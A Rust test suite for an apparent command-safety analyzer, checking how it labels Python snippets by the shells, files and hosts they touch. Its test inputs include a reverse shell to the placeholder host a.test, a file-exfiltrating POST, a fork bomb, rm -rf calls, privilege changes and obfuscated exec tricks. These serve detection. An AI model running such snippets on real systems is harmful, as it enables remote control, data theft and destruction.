use super::{check, harmless};
use crate::command::Language::Python;

#[test]
fn harmless_python_passes() {
    harmless(
        Python,
        &[
            r#"import json,sys; print(json.load(sys.stdin)["a"])"#,
            "print('os.system(1); exec(x); import pty')",
            "import re; print(re.compile('a+').match('aa'))",
            "import os; print(os.getcwd(), os.path.exists('a'), os.environ.get('PATH'))",
            "from app.models import User; print(User.all().filter(name='x'))",
            "d = Box(); d.system('x'); df.eval('a+b'); model.eval(); cursor.execute('select 1')",
            "# os.system('id')\nprint(1)",
            "'''\nos.system('id')\n'''",
            "import sys; print(sys.argv[1], sys.version_info)",
            "print(f\"{1 + 2:>{8}} {{x}} {'a' if True else 'b'}\")",
            "import subprocess",
            "import os\ntry:\n    x = os.getpid()\nexcept OSError: x = 1\nprint(dir(os), hasattr(os, 'fork'))",
            "größe = 1; print(größe)",
            "import base64; print(base64.b64encode(b'hi').decode())",
            "import ctypes; print(ctypes.sizeof(ctypes.c_long))",
            "import urllib.parse; print(urllib.parse.quote('a b'))",
            "import socket; print(socket.gethostname())",
            "for line in open(0): print(line.strip())",
            "import hashlib; print(hashlib.sha256(b'x').hexdigest())",
            "def run(x):\n    return x * 2\nprint(run(2))",
            "import sys; sys.exit(1) if sys.maxsize < 2**32 else print('ok')",
            "print(r'C:\\new', rb'\\\\', u'x', '\\'', \"\\\\\")",
            "x = getattr(settings, name, None); print(x)",
            "import pytest; raise SystemExit(pytest.main(['-q', 'tests']))",
            "import math\nprint(math.pi \\\n  * 2)",
            "",
        ],
    );
}

#[test]
fn python_that_starts_programs_says_which() {
    check(
        Python,
        &[
            ("import os; os.system('ls -l')", "shell ls -l"),
            ("import os as o; o.popen('id')", "shell id"),
            ("from os import system as s; s('id')", "shell id"),
            ("from os import *\nsystem('id')", "shell id"),
            ("from os import (system,\n  popen as p)\np('id')", "shell id"),
            ("__import__('o'+'s').system('id')", "shell id"),
            ("__import__('os').__dict__['system']('id')", "!Evaluates"),
            ("import importlib; importlib.import_module('os').system('id')", "shell id"),
            ("import os; getattr(os, 'sys' 'tem')('id')", "shell id"),
            ("import sys; sys.modules['os'].system('id')", "shell id"),
            ("import os; os . \\\n system ( # c\n 'i\\x64' )", "shell id"),
            ("import os; os.system ('i\\x64')", "shell id"),
            ("import os; os.system(f'rm {x}')", "!Spawns"),
            ("import os; c='rm -rf /x'; os.system(c)", "shell rm -rf /x"),
            ("import os; c='ls'; c+=' | sh'; os.system(c)", "!Spawns"),
            ("import os; c='ls'\nfor c in x: os.system(c)", "!Spawns"),
            ("import os; c='ls'\ndef f(c): os.system(c)\nf(y)", "!Spawns"),
            ("import os; x = os.system; x('id')", "!Spawns; shell id"),
            ("import os; list(map(os.system, cmds))", "!Spawns"),
            ("import os; (os).system('id')", "!Evaluates"),
            ("import os; f(os)", "!Evaluates"),
            ("import os; a = os; a.system('id')", "shell id"),
            ("import os; x.y = os", "!Evaluates"),
            ("\u{ff45}\u{ff58}ec(x)", "!Evaluates"),
            ("import shutil; shutil.os.system('id')", "shell id"),
            ("from os import path as p; p.os.system('id')", "shell id"),
            ("import subprocess as s; s.run(args=['rm', 'x'])", "run rm x"),
            (
                "import subprocess; subprocess.run(['git', 'log', '-1'], check=True)",
                "run git log -1",
            ),
            ("import subprocess as sp; sp.check_output('ls | wc', shell=True)", "shell ls | wc"),
            ("from subprocess import run; run(['rm', '-rf', p])", "run rm -rf ?"),
            ("import subprocess; subprocess.Popen(cmd)", "!Spawns"),
            ("import subprocess; subprocess.run(['ls'], cwd='/etc')", "enter /etc; run ls"),
            ("import subprocess; subprocess.run(['ls'], executable='/bin/sh')", "!Spawns"),
            ("import pty; pty.spawn('/bin/sh')", "run /bin/sh"),
            ("import os; os.execl('/bin/sh', 'sh', '-p')", "run /bin/sh -p"),
            ("import os; os.execvp('ls', ['ls', '-a'])", "run ls -a"),
            ("import os; os.system(chr(105)+chr(100))", "!Obfuscates"),
            ("import os; os.system(' '.join(['rm', '-r', 'x']))", "shell rm -r x"),
            ("import ctypes; ctypes.CDLL(None).system(b'id')", "!Spawns"),
            ("print(f\"{__import__('os').system('id')}\")", "shell id"),
            ("print(f\"{f'{__import__(chr(111)+chr(115)).system(1)}'}\")", "!Obfuscates"),
            ("print(f'\\{__import__(\"os\").system(\"id\")}')", "shell id"),
            ("print(rf'\\{__import__(\"os\").system(\"id\")}')", "shell id"),
        ],
    );
}

#[test]
fn python_that_evaluates_is_raised() {
    check(
        Python,
        &[
            ("eval(input())", "!Evaluates"),
            ("exec('import os')", "code import os"),
            ("exec(open('setup.py').read())", "script setup.py; read setup.py"),
            ("exec(__import__('base64').b64decode('aW1wb3J0'))", "!Obfuscates"),
            ("exec(bytes.fromhex('70').decode())", "!Obfuscates"),
            ("(lambda f: f('1'))(eval)", "!Evaluates"),
            ("__builtins__.eval('1')", "!Evaluates"),
            ("globals()['ev'+'al']('1')", "!Evaluates"),
            ("vars(os)['system']('id')", "!Evaluates"),
            ("().__class__.__bases__[0].__subclasses__()", "!Evaluates"),
            ("import os; getattr(os, input())('x')", "!Evaluates"),
            ("__import__(x).run()", "!Evaluates"),
            ("import pickle; pickle.loads(data)", "!Evaluates"),
            ("import builtins as b; b.exec(code)", "!Evaluates"),
            ("print('a", "!Unclear"),
            ("x = '''a", "!Unclear"),
        ],
    );
}

#[test]
fn python_names_the_files_it_touches() {
    check(
        Python,
        &[
            ("print(open('a.txt').read())", "read a.txt"),
            ("open('/etc/x','w').write('y')", "write /etc/x"),
            ("open(file='b', mode='a')", "write b"),
            (
                "p='a.json'\nimport json\nd=json.load(open(p))\njson.dump(d, open(p,'w'))",
                "read a.json; write a.json",
            ),
            ("open(f'/etc/{name}', 'w')", "write /etc/?"),
            ("open('/etc/' + n, 'a')", "write /etc/?"),
            ("open(n, m)", "write ?"),
            ("from pathlib import Path; Path('a').write_text('x')", "write a"),
            (
                "from pathlib import Path; p = Path('/etc') / 'x'; p.unlink()",
                "delete /etc/x Single",
            ),
            (
                "from pathlib import Path; (Path.home() / '.ssh' / 'k').write_text('x')",
                "write ~/.ssh/k",
            ),
            (
                "from pathlib import Path; Path('a').rename('/etc/b')",
                "delete a Single; write /etc/b",
            ),
            ("import pathlib; print(pathlib.Path('a').read_text().replace('a','b'))", "read a"),
            ("import shutil; shutil.rmtree('/srv')", "delete /srv Tree"),
            ("import shutil; shutil.copy('a', '/usr/b')", "read a; write /usr/b"),
            (
                "import os; os.remove('/etc/x'); os.rename('a','b')",
                "delete /etc/x Single; delete a Single; write b",
            ),
            ("import os; os.makedirs(os.path.join('a', 'b'))", "write a/b"),
            ("import os; open(os.path.expanduser('~/.bashrc'), 'a')", "write ~/.bashrc"),
            (
                "import os; os.chdir('/'); os.symlink('/etc', 'x')",
                "enter /; read /etc; link /etc x",
            ),
            ("import os; list(map(os.remove, files))", "delete ? Single"),
            ("df.to_csv('out.csv')", "write out.csv"),
        ],
    );
}

#[test]
fn python_names_the_hosts_it_talks_to() {
    check(
        Python,
        &[
            (
                "import requests; requests.get('https://api.example.com/x').json()",
                "connect https://api.example.com/x",
            ),
            ("import urllib.request as r; r.urlopen('http://a.test')", "connect http://a.test"),
            (
                "from urllib.request import urlretrieve; urlretrieve('http://a.test/x','/etc/y')",
                "connect http://a.test/x; write /etc/y",
            ),
            ("import requests; requests.get(url)", "connect ?"),
            (
                "import requests; requests.post('https://a.test', data=open('k').read())",
                "connect https://a.test; read k; !Exfiltrates",
            ),
            ("import socket; s=socket.socket(); s.connect(('a.test', 80))", "connect a.test"),
            (
                "import socket,subprocess,os;s=socket.create_connection(('a.test',9));os.dup2(s.fileno(),0);subprocess.call(['sh','-i'])",
                "connect a.test; !Unclear; run sh -i; !Backdoor",
            ),
            ("import os\nwhile 1: os.fork()", "!Exhausts"),
            ("import os; os.kill(1, 9)", "!Processes"),
            ("import os; os.setuid(0)", "!Privilege"),
        ],
    );
}

#[test]
fn python_loops_over_files_know_where_those_lie() {
    check(
        Python,
        &[
            (
                "from pathlib import Path\nfor p in Path('src').rglob('*.py'): p.write_text('x')",
                "read src; write src/*.py",
            ),
            (
                "from pathlib import Path\nfor p in sorted(Path('/etc').glob('*')): p.unlink()",
                "delete /etc/* Single",
            ),
            (
                "import os\nfor root, dirs, files in os.walk('src'):\n    for f in files:\n        p = os.path.join(root, f)\n        open(p, 'w')",
                "read src; write src/*/*",
            ),
            (
                "import os\nfor root, dirs, files in os.walk('.'):\n    for f in files: open(os.path.join(root, f), 'w')",
                "read .; write ?/?",
            ),
            (
                "import glob\nfor f in glob.glob('src/**/*.ts', recursive=True): open(f, 'w')",
                "read src/**/*.ts; write src/*.ts",
            ),
            (
                "import glob\nfor f in glob.glob('*', root_dir='/etc'): open(f, 'w')",
                "read *; write ?",
            ),
            (
                "from pathlib import Path\nfor f in ['a.py', '/etc/b']: Path(f).write_text('x')",
                "write a.py; write /etc/b",
            ),
            ("for f in ['a', 'b']:\n    f = g(f)\n    open(f, 'w')", "write ?"),
            (
                "import tempfile, os\nwith tempfile.TemporaryDirectory() as d: open(os.path.join(d, 'x'), 'w')",
                "write /tmp/mktemp.made/x",
            ),
            (
                "import tempfile\nwith tempfile.TemporaryDirectory(dir='/etc') as d: open(d + '/x', 'w')",
                "write /etc; write ?/x",
            ),
            (
                "from pathlib import Path\nfor p in Path('.').rglob('*'): p.unlink()",
                "read .; delete ? Single",
            ),
        ],
    );
}

#[test]
fn python_calls_by_other_ways_are_the_same_calls() {
    check(
        Python,
        &[
            ("import os; os.system.__call__('id')", "shell id"),
            ("import setuptools; setuptools.distutils.spawn.spawn(['id'])", "run id"),
            ("import pipes; pipes.Template()", "!Spawns"),
            (
                "import os; os.symlink('/etc', 'l'); open('l/x', 'w')",
                "read /etc; link /etc l; write l/x",
            ),
        ],
    );
}

#[test]
fn profilers_write_what_they_find() {
    check(
        Python,
        &[
            ("import cProfile; cProfile.run('f()', '/etc/x')", "code f(); write /etc/x"),
            ("import profile; profile.run('f()', filename='/etc/x')", "code f(); write /etc/x"),
            ("import cProfile; cProfile.runctx('f()', {}, {}, '/etc/x')", "code f(); write /etc/x"),
            ("import cProfile; cProfile.run('f()')", "code f()"),
            ("import zipapp; zipapp.create_archive('a', '/etc/x')", "read a; write /etc/x"),
            (
                "import os; os.posix_spawn('/bin/ls', ['ls'], {}, file_actions=[(0, 1, 'x', 1, 0)])",
                "!Spawns",
            ),
        ],
    );
}
